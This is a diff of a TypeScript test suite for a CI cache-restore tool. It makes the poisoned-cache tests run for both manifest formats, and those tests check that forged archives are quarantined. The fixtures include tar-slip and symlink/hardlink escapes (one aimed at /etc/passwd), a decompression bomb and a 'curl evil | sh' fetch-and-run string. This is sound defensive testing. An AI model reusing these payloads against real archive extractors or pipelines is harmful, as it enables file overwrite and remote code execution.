@@ -97,12 +97,16 @@ async function poisonCase(
   const sb = sandbox();
   rmSync(join(sb.workspace, 'deps'), { recursive: true });
   await forge(sb, {
+    format,
     ...o,
     signWith: o.signWith === null ? undefined : (o.signWith ?? trusted.privatePem)
   });
   const run = await restoreInRelease(sb);
   expectQuarantined(sb, run, reason);
 }
+
+/** The manifest format the forged entries use (each poisoned suite runs for v2, then v1). */
+let format: 'v1' | 'v2' = 'v2';
 
 const good = [
   { name: '0/a.txt', content: 'alpha\n' },
@@ -165,260 +169,276 @@ describe('cache-sentinel restore: the honest path (dist)', () => {
   });
 });
 
-describe('cache-sentinel restore: poisoned entries are quarantined (dist)', () => {
-  it('tar-slip with ..', () =>
-    poisonCase(
-      {
-        // The signer vouched for this archive (its digest matches); the member name is the attack.
-        members: [{ name: '0/../../evil', content: 'pwned' }, ...good],
-        entries: []
-      },
-      'path-traversal'
-    ));
+describe.each(['v2', 'v1'] as const)('manifest %s', (f) => {
+  beforeAll(() => {
+    format = f;
+  });
 
-  it('tar-slip with an absolute path', () =>
-    poisonCase(
-      { members: [{ name: '/tmp/cs-evil-absolute', content: 'pwned' }], entries: [] },
-      'absolute-path'
-    ));
+  describe('cache-sentinel restore: poisoned entries are quarantined (dist)', () => {
+    it('tar-slip with ..', () =>
+      poisonCase(
+        {
+          // The signer vouched for this archive (its digest matches); the member name is the attack.
+          members: [{ name: '0/../../evil', content: 'pwned' }, ...good],
+          entries: []
+        },
+        'path-traversal'
+      ));
 
-  it('symlink escaping the destination, then a write through it', () =>
-    poisonCase(
-      {
-        members: [
-          { name: '0/esc', type: 'symlink', linkname: '../../../outside' },
-          { name: '0/esc/evil', content: 'pwned' }
-        ]
-      },
-      'symlink-escape'
-    ));
+    it('tar-slip with an absolute path', () =>
+      poisonCase(
+        { members: [{ name: '/tmp/cs-evil-absolute', content: 'pwned' }], entries: [] },
+        'absolute-path'
+      ));
 
-  it('symlink inside the root used to redirect a later write', () =>
-    poisonCase(
-      {
-        members: [
-          { name: '0/sub', type: 'directory' },
-          { name: '0/in', type: 'symlink', linkname: 'sub' },
-          { name: '0/in/evil', content: 'pwned' }
-        ]
-      },
-      'write-through-symlink'
-    ));
+    it('symlink escaping the destination, then a write through it', () =>
+      poisonCase(
+        {
+          members: [
+            { name: '0/esc', type: 'symlink', linkname: '../../../outside' },
+            { name: '0/esc/evil', content: 'pwned' }
+          ]
+        },
+        'symlink-escape'
+      ));
 
-  it('hardlink escaping the destination', () =>
-    poisonCase(
-      { members: [{ name: '0/h', type: 'link', linkname: '/etc/passwd' }], entries: [] },
-      'hardlink'
-    ));
+    it('symlink inside the root used to redirect a later write', () =>
+      poisonCase(
+        {
+          members: [
+            { name: '0/sub', type: 'directory' },
+            { name: '0/in', type: 'symlink', linkname: 'sub' },
+            { name: '0/in/evil', content: 'pwned' }
+          ]
+        },
+        'write-through-symlink'
+      ));
 
-  it('device file', () =>
-    poisonCase(
-      { members: [{ name: '0/dev', type: 'character-device' }], entries: [] },
-      'special-file'
-    ));
+    it('hardlink escaping the destination', () =>
+      poisonCase(
+        { members: [{ name: '0/h', type: 'link', linkname: '/etc/passwd' }], entries: [] },
+        'hardlink'
+      ));
 
-  it('swapped file: archive rewritten, signed manifest keeps the original digests', async () => {
-    const sb = sandbox();
-    rmSync(join(sb.workspace, 'deps'), { recursive: true });
-    // The attacker re-signs nothing: same manifest, archive re-packed with other bytes of the same size.
-    await forge(sb, {
-      members: good,
-      signWith: trusted.privatePem,
-      afterSign: (p) => {
-        const s = p.toString('latin1').replace('alpha\n', 'ALPHA\n');
-        return Buffer.from(s, 'latin1');
-      }
+    it('device file', () =>
+      poisonCase(
+        { members: [{ name: '0/dev', type: 'character-device' }], entries: [] },
+        'special-file'
+      ));
+
+    it('swapped file: archive rewritten, signed manifest keeps the original digests', async () => {
+      const sb = sandbox();
+      rmSync(join(sb.workspace, 'deps'), { recursive: true });
+      // The attacker re-signs nothing: same manifest, archive re-packed with other bytes of the same size.
+      await forge(sb, {
+        format,
+        members: good,
+        signWith: trusted.privatePem,
+        afterSign: (p) => {
+          const s = p.toString('latin1').replace('alpha\n', 'ALPHA\n');
+          return Buffer.from(s, 'latin1');
+        }
+      });
+      expectQuarantined(sb, await restoreInRelease(sb), 'archive-digest-mismatch');
     });
-    expectQuarantined(sb, await restoreInRelease(sb), 'archive-digest-mismatch');
-  });
 
-  it('swapped file inside an archive whose digest the (compromised-but-trusted) signer vouched for', () =>
-    poisonCase(
-      {
+    it('swapped file inside an archive whose digest the (compromised-but-trusted) signer vouched for', () =>
+      poisonCase(
+        {
+          members: good,
+          manifestEdit: (m) => {
+            m.entries[0].blake3 = '0'.repeat(64);
+          }
+        },
+        'digest-mismatch'
+      ));
+
+    it('extra file not in the manifest', () =>
+      poisonCase(
+        {
+          members: [...good, { name: '0/extra.sh', content: 'curl evil | sh' }],
+          manifestEdit: (m) => {
+            m.entries = m.entries.filter((e) => e.path !== 'extra.sh');
+          }
+        },
+        'unlisted-file'
+      ));
+
+    it('truncated archive', () =>
+      poisonCase({ members: good, afterSign: (p) => p.subarray(0, 700) }, 'archive-size-mismatch'));
+
+    it('re-signed by an untrusted identity', () =>
+      poisonCase({ members: good, signWith: mallory.privatePem }, 'untrusted-signer'));
+
+    it('unsigned entry', () => poisonCase({ members: good, signWith: null }, 'missing-signature'));
+
+    it('manifest edited after signing', async () => {
+      const sb = sandbox();
+      rmSync(join(sb.workspace, 'deps'), { recursive: true });
+      const key = await forge(sb, {
+        format,
         members: good,
-        manifestEdit: (m) => {
-          m.entries[0].blake3 = '0'.repeat(64);
-        }
-      },
-      'digest-mismatch'
-    ));
-
-  it('extra file not in the manifest', () =>
-    poisonCase(
-      {
-        members: [...good, { name: '0/extra.sh', content: 'curl evil | sh' }],
-        manifestEdit: (m) => {
-          m.entries = m.entries.filter((e) => e.path !== 'extra.sh');
-        }
-      },
-      'unlisted-file'
-    ));
-
-  it('truncated archive', () =>
-    poisonCase({ members: good, afterSign: (p) => p.subarray(0, 700) }, 'archive-size-mismatch'));
-
-  it('re-signed by an untrusted identity', () =>
-    poisonCase({ members: good, signWith: mallory.privatePem }, 'untrusted-signer'));
-
-  it('unsigned entry', () => poisonCase({ members: good, signWith: null }, 'missing-signature'));
-
-  it('manifest edited after signing', async () => {
-    const sb = sandbox();
-    rmSync(join(sb.workspace, 'deps'), { recursive: true });
-    const key = await forge(sb, { members: good, signWith: trusted.privatePem });
-    const dir = join(sb.store, createHash('sha256').update(key).digest('hex'));
-    const m = readFileSync(join(dir, 'manifest.json'), 'utf8').replace(
-      '"runId":"666"',
-      '"runId":"667"'
-    );
-    writeFileSync(join(dir, 'manifest.json'), m);
-    expectQuarantined(sb, await restoreInRelease(sb), 'bad-signature');
-  });
-
-  it('PR-tier entry stored under the trusted key is refused by a release job', () =>
-    poisonCase(
-      {
-        members: good,
-        tier: 'pr-7',
-        event: 'pull_request',
-        ref: 'refs/pull/7/merge',
-        storeAs: `cs1-trusted-${pathsId(['deps'])}-deps-v1`
-      },
-      'tier-mismatch'
-    ));
-
-  it('entry claiming the trusted tier but written by a pull request', () =>
-    poisonCase(
-      { members: good, tier: 'trusted', event: 'pull_request', ref: 'refs/pull/7/merge' },
-      'tier-violation'
-    ));
-
-  it('manifest valid (signed, consistent) but the archive swapped for another one', async () => {
-    const sb = sandbox();
-    rmSync(join(sb.workspace, 'deps'), { recursive: true });
-    const other = join(sb.root, 'other.tar');
-    await tarOf([{ name: '0/a.txt', content: 'evil!\n' }], other);
-    await forge(sb, {
-      members: good,
-      signWith: trusted.privatePem,
-      afterSign: () => readFileSync(other)
+        signWith: trusted.privatePem
+      });
+      const dir = join(sb.store, createHash('sha256').update(key).digest('hex'));
+      const m = readFileSync(join(dir, 'manifest.json'), 'utf8').replace(
+        '"runId":"666"',
+        '"runId":"667"'
+      );
+      writeFileSync(join(dir, 'manifest.json'), m);
+      expectQuarantined(sb, await restoreInRelease(sb), 'bad-signature');
     });
-    expectQuarantined(sb, await restoreInRelease(sb), 'archive-size-mismatch');
-  });
 
-  it('audit mode reports the quarantine but does not fail the step', async () => {
-    const sb = sandbox();
-    rmSync(join(sb.workspace, 'deps'), { recursive: true });
-    await forge(sb, { members: good, signWith: mallory.privatePem });
-    const run = await restoreInRelease(sb, { mode: 'audit' });
-    expect(run.exitCode).toBe(0);
-    expect(run.outputs.quarantined).toBe('true');
-    expect(run.result?.verdict).toBe('fail');
-    expect(existsSync(join(sb.workspace, 'deps'))).toBe(false);
-  });
-});
+    it('PR-tier entry stored under the trusted key is refused by a release job', () =>
+      poisonCase(
+        {
+          members: good,
+          tier: 'pr-7',
+          event: 'pull_request',
+          ref: 'refs/pull/7/merge',
+          storeAs: `cs1-trusted-${pathsId(['deps'])}-deps-v1`
+        },
+        'tier-mismatch'
+      ));
 
-describe('cache-sentinel restore: poisoned zstd entries, decompressed on the worker thread (dist)', () => {
-  it('tar-slip with ..', () =>
-    poisonCase(
-      { members: [{ name: '0/../../evil', content: 'pwned' }, ...good], entries: [], zstd: true },
-      'path-traversal'
-    ));
+    it('entry claiming the trusted tier but written by a pull request', () =>
+      poisonCase(
+        { members: good, tier: 'trusted', event: 'pull_request', ref: 'refs/pull/7/merge' },
+        'tier-violation'
+      ));
 
-  it('symlink escaping the destination, then a write through it', () =>
-    poisonCase(
-      {
-        members: [
-          { name: '0/esc', type: 'symlink', linkname: '../../../outside' },
-          { name: '0/esc/evil', content: 'pwned' }
-        ],
-        zstd: true
-      },
-      'symlink-escape'
-    ));
-
-  it('hardlink and device members', async () => {
-    await poisonCase(
-      {
-        members: [{ name: '0/h', type: 'link', linkname: '/etc/passwd' }],
-        entries: [],
-        zstd: true
-      },
-      'hardlink'
-    );
-    await poisonCase(
-      { members: [{ name: '0/dev', type: 'character-device' }], entries: [], zstd: true },
-      'special-file'
-    );
-  });
-
-  it('a file whose bytes are not the signed digest, and a file not in the manifest', async () => {
-    await poisonCase(
-      {
+    it('manifest valid (signed, consistent) but the archive swapped for another one', async () => {
+      const sb = sandbox();
+      rmSync(join(sb.workspace, 'deps'), { recursive: true });
+      const other = join(sb.root, 'other.tar');
+      await tarOf([{ name: '0/a.txt', content: 'evil!\n' }], other);
+      await forge(sb, {
+        format,
         members: good,
-        zstd: true,
-        manifestEdit: (m) => {
-          m.entries[0].blake3 = '0'.repeat(64);
-        }
-      },
-      'digest-mismatch'
-    );
-    await poisonCase(
-      {
-        members: [...good, { name: '0/extra.sh', content: 'curl evil | sh' }],
-        zstd: true,
-        manifestEdit: (m) => {
-          m.entries = m.entries.filter((e) => e.path !== 'extra.sh');
-        }
-      },
-      'unlisted-file'
-    );
+        signWith: trusted.privatePem,
+        afterSign: () => readFileSync(other)
+      });
+      expectQuarantined(sb, await restoreInRelease(sb), 'archive-size-mismatch');
+    });
+
+    it('audit mode reports the quarantine but does not fail the step', async () => {
+      const sb = sandbox();
+      rmSync(join(sb.workspace, 'deps'), { recursive: true });
+      await forge(sb, {
+        format,
+        members: good,
+        signWith: mallory.privatePem
+      });
+      const run = await restoreInRelease(sb, { mode: 'audit' });
+      expect(run.exitCode).toBe(0);
+      expect(run.outputs.quarantined).toBe('true');
+      expect(run.result?.verdict).toBe('fail');
+      expect(existsSync(join(sb.workspace, 'deps'))).toBe(false);
+    });
   });
 
-  it('a garbled zstd stream the signer vouched for is a corrupt archive', () =>
-    poisonCase(
-      {
-        members: good,
-        zstd: true,
-        zstdBytes: (c) => Buffer.concat([c.subarray(0, 6), Buffer.alloc(c.length - 6, 0xff)])
-      },
-      'corrupt-archive'
-    ));
+  describe('cache-sentinel restore: poisoned zstd entries, decompressed on the worker thread (dist)', () => {
+    it('tar-slip with ..', () =>
+      poisonCase(
+        { members: [{ name: '0/../../evil', content: 'pwned' }, ...good], entries: [], zstd: true },
+        'path-traversal'
+      ));
 
-  it('a zstd stream cut in half (signed as cut) is a corrupt archive', () =>
-    poisonCase(
-      {
-        members: [...good, { name: '0/big.bin', content: randomBytes(300_000) }],
-        zstd: true,
-        zstdBytes: (c) => c.subarray(0, Math.floor(c.length / 2))
-      },
-      'corrupt-archive'
-    ));
+    it('symlink escaping the destination, then a write through it', () =>
+      poisonCase(
+        {
+          members: [
+            { name: '0/esc', type: 'symlink', linkname: '../../../outside' },
+            { name: '0/esc/evil', content: 'pwned' }
+          ],
+          zstd: true
+        },
+        'symlink-escape'
+      ));
 
-  it('a compressed bomb: a member far larger than its manifest entry stops at its header', async () => {
-    const t0 = performance.now();
-    await poisonCase(
-      {
-        members: [...good, { name: '0/bomb', content: Buffer.alloc(64 * 1024 * 1024) }],
-        zstd: true,
-        manifestEdit: (m) => {
-          const bomb = m.entries.find((e) => e.path === 'bomb')!;
-          bomb.size = 4;
-          bomb.blake3 = blake3Hex(Buffer.alloc(4));
-        }
-      },
-      'size-mismatch'
-    );
-    expect(performance.now() - t0).toBeLessThan(30_000);
+    it('hardlink and device members', async () => {
+      await poisonCase(
+        {
+          members: [{ name: '0/h', type: 'link', linkname: '/etc/passwd' }],
+          entries: [],
+          zstd: true
+        },
+        'hardlink'
+      );
+      await poisonCase(
+        { members: [{ name: '0/dev', type: 'character-device' }], entries: [], zstd: true },
+        'special-file'
+      );
+    });
+
+    it('a file whose bytes are not the signed digest, and a file not in the manifest', async () => {
+      await poisonCase(
+        {
+          members: good,
+          zstd: true,
+          manifestEdit: (m) => {
+            m.entries[0].blake3 = '0'.repeat(64);
+          }
+        },
+        'digest-mismatch'
+      );
+      await poisonCase(
+        {
+          members: [...good, { name: '0/extra.sh', content: 'curl evil | sh' }],
+          zstd: true,
+          manifestEdit: (m) => {
+            m.entries = m.entries.filter((e) => e.path !== 'extra.sh');
+          }
+        },
+        'unlisted-file'
+      );
+    });
+
+    it('a garbled zstd stream the signer vouched for is a corrupt archive', () =>
+      poisonCase(
+        {
+          members: good,
+          zstd: true,
+          zstdBytes: (c) => Buffer.concat([c.subarray(0, 6), Buffer.alloc(c.length - 6, 0xff)])
+        },
+        'corrupt-archive'
+      ));
+
+    it('a zstd stream cut in half (signed as cut) is a corrupt archive', () =>
+      poisonCase(
+        {
+          members: [...good, { name: '0/big.bin', content: randomBytes(300_000) }],
+          zstd: true,
+          zstdBytes: (c) => c.subarray(0, Math.floor(c.length / 2))
+        },
+        'corrupt-archive'
+      ));
+
+    it('a compressed bomb: a member far larger than its manifest entry stops at its header', async () => {
+      const t0 = performance.now();
+      await poisonCase(
+        {
+          members: [...good, { name: '0/bomb', content: Buffer.alloc(64 * 1024 * 1024) }],
+          zstd: true,
+          manifestEdit: (m) => {
+            const bomb = m.entries.find((e) => e.path === 'bomb')!;
+            bomb.size = 4;
+            bomb.blake3 = blake3Hex(Buffer.alloc(4));
+          }
+        },
+        'size-mismatch'
+      );
+      expect(performance.now() - t0).toBeLessThan(30_000);
+    });
+
+    it('compressed bytes swapped after signing: the stored digest is reported', () =>
+      poisonCase(
+        {
+          members: good,
+          zstd: true,
+          afterSign: (p) => Buffer.concat([p.subarray(0, 6), Buffer.alloc(p.length - 6, 0xff)])
+        },
+        'archive-digest-mismatch'
+      ));
   });
-
-  it('compressed bytes swapped after signing: the stored digest is reported', () =>
-    poisonCase(
-      {
-        members: good,
-        zstd: true,
-        afterSign: (p) => Buffer.concat([p.subarray(0, 6), Buffer.alloc(p.length - 6, 0xff)])
-      },
-      'archive-digest-mismatch'
-    ));
 });
